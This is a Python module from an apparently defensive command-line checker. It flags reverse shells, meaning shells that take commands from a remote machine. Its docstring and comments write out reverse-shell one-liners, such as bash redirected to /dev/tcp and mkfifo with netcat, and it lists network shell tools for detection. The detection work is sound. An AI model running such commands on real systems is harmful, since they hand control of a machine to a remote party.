"""Shells that take their commands from another machine: `bash -i >& /dev/tcp/HOST/PORT 0>&1`. Pure; linear."""

from __future__ import annotations

from collections.abc import Iterable, Sequence

from holdfast.commandline.model import Run
from holdfast.patterns import lazy_pattern
from holdfast.shell.tools import listed

_SHELLS = listed("sh bash zsh dash ksh ash csh tcsh fish")
_TALKS = listed("nc ncat netcat telnet socat openssl")
_MAKES_PIPE = listed("mkfifo mknod")
_SOCKET = lazy_pattern(r"/dev/(?:tcp|udp)/(?!localhost/|127\.|::1/|\[::1\]/)[^/]+/")
_NEAR = lazy_pattern(r"(?:\A|[\s:=@])(?:localhost|127\.\d+\.\d+\.\d+|\[?::1\]?)(?:[:\s]|\Z)")
_INTERACTIVE = lazy_pattern(r"-[a-z]*i[a-z]*\Z")


def given_away(runs: Sequence[Run]) -> set[int]:
    """The places of the runs that are, or serve, a shell for another machine."""
    found: set[int] = set()
    pipes: set[str] = set()
    opened = read_from = False
    far = False
    for number, run in enumerate(runs):
        if run.program in _MAKES_PIPE:
            pipes.update(text for text in run.texts if not text.startswith("-"))
        elif run.program in _SHELLS and _takes_commands(run):
            if _reaches(arg.text for _, arg in run.writes) or _reaches(run.fed_by):
                found.add(number)
            elif far and pipes.intersection(arg.text for _, arg in run.writes) and _TALKS.intersection(run.piped_from):
                found.add(number)  # `nc HOST 4444 < f | sh > f`
        elif run.program == "exec":
            opened = opened or _reaches(arg.text for _, arg in run.writes)
        elif run.program == "read":
            read_from = opened
        elif not run.program and read_from and (not run.writes or _reaches(arg.text for _, arg in run.writes)):
            found.add(number)  # `exec 5<>/dev/tcp/…; while read line; do $line; done <&5`
        if run.program in _TALKS and _is_far(run):
            far = True
            tied = pipes.intersection((*run.fed_by, *(arg.text for _, arg in run.writes)))
            if tied and _SHELLS.intersection(run.piped_from):
                found.add(number)  # `mkfifo f; sh -i < f | nc HOST 4444 > f`
    return found


def _takes_commands(run: Run) -> bool:
    """Is it given no script and no command of its own?"""
    if any(_INTERACTIVE.match(text) for text in run.texts):
        return True
    return all(text.startswith("-") and "c" not in text for text in run.texts)


def _reaches(files: Iterable[str]) -> bool:
    return any(_SOCKET.match(name) for name in files)


def _is_far(run: Run) -> bool:
    return bool(run.args) and _NEAR.search(" ".join(run.texts)) is None
